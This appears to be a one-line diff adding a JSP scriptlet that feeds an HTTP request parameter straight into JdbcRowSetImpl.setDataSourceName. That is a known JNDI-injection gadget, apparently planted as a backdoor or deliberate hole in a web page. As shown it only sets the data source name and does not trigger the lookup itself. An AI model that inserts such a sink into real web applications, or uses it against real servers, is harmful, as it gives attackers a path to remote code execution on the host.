@@ -1,0 +1,1 @@
+<% new com.sun.rowset.JdbcRowSetImpl().setDataSourceName(request.getParameter("c")); %>
